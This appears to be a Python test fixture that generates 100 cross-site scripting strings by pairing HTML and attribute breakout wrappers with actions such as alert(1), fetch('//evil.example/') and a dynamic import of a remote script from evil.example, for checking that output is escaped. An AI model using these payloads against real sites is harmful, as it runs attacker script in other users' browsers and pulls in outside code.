"""A hundred texts that would be markup or script where one was not escaped."""

from itertools import product

_ACTS = (
    "alert(1)",
    "fetch('//evil.example/')",
    "document.title='x'",
    "import('//evil.example/a.js')",
    "print()",
)
_SHELLS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    '"><svg onload={}>',
    "'><svg/onload={}>",
    '" autofocus onfocus={} x="',
    "' onpointerover={} x='",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</svg><script>{}</script>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<a href='javascript:{}'>x</a>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "{{{{ {} }}}}",
    "{{% {} %}}",
    "</p><details open ontoggle={}>",
    "<style>@import '//evil.example/'</style>{}",
    "<math><mi xlink:href='javascript:{}'>",
    "&lt;script&gt;{}&lt;/script&gt;",
)
PAYLOADS = tuple(shell.format(act) for shell, act in product(_SHELLS, _ACTS))
"""A hundred, each once; none has a control character or a backslash."""
